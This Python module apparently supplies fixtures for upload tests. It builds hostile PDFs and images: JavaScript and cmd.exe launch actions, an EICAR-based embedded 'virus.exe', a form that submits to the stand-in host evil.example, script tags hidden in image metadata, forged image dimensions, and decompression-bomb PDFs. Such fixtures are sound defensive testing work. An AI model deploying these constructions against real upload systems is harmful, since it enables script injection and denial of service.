"""Builders of ordinary and hostile files for the upload tests."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image, PngImagePlugin

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def saved(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def plain_pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **options: Any) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    if change:
        change(pdf)
    return saved(pdf, **options)


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('x')"))


def open_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(script())


def page_script(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=script())


def named_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))


def launch(pdf: pikepdf.Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 0, 9, 9],
        A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Next=Array([script()])),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def script_link(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["virus.exe"] = b"MZ" + EICAR


def attached_annotation(pdf: pikepdf.Pdf) -> None:
    spec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=Stream(pdf, b"MZ")))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])


def submit_form(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.SubmitForm, F=String("http://evil.example/"))
    button = Dictionary(FT=Name.Btn, T=String("b"), A=action, Subtype=Name.Widget, Rect=[0, 0, 9, 9])
    field = pdf.make_indirect(button)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=Stream(pdf, b"<xdp>script</xdp>"))
    pdf.pages[0].obj.Annots = Array([field])


def jpeg(size: tuple[int, int] = (60, 40), **options: Any) -> bytes:
    image = Image.linear_gradient("L").resize(size).convert("RGB")
    out = io.BytesIO()
    image.save(out, "JPEG", **options)
    return out.getvalue()


def gps_jpeg(orientation: int = 6) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Hang dien thoai"
    exif.get_ifd(0x8825).update({1: "N", 2: (21.0, 1.0, 42.0), 3: "E", 4: (105.0, 50.0, 12.0)})
    return jpeg(exif=exif.tobytes(), comment=b"<script>alert(1)</script>")


def png(size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: Any) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(out, "PNG", **options)
    return out.getvalue()


def png_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    return png(pnginfo=info)


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_claiming(width: int, height: int, pixels: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [
        png_chunk(b"IHDR", header),
        png_chunk(b"IDAT", zlib.compress(pixels, 9)),
        png_chunk(b"IEND", b""),
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def jpeg_claiming(width: int, height: int) -> bytes:
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_of_many_scans(count: int = 500) -> bytes:
    data = jpeg(progressive=True)
    start = data.index(b"\xff\xda")
    end = data.index(b"\xff", start + 20)
    scan = data[start:end]
    return data[:start] + scan * count + data[start:]


def zipped(name: str = "a.txt", body: bytes = b"x" * 100) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, body)
    return out.getvalue()


def pdf_bomb() -> bytes:
    """An object stream of a few hundred KB that unpacks to 300 MB."""
    packer = zlib.compressobj(9)
    block = b" " * (1 << 20)
    packed = b"".join(packer.compress(block) for _ in range(300)) + packer.flush()
    stream = (
        b"4 0 obj\n<< /Type /Obj#53tm /N 1 /Fi#72st 4 /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(packed)
    )
    return b"%PDF-1.7\n" + stream + packed + b"\nendstream\nendobj\n%%EOF\n"


def twice_deflated() -> bytes:
    inner = zlib.compress(b" " * 50_000_000, 9)
    packed = zlib.compress(inner, 9)
    head = (
        b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n"
    )
    return b"%PDF-1.7\n" + head % len(packed) + packed + b"\nendstream\nendobj\n%%EOF\n"
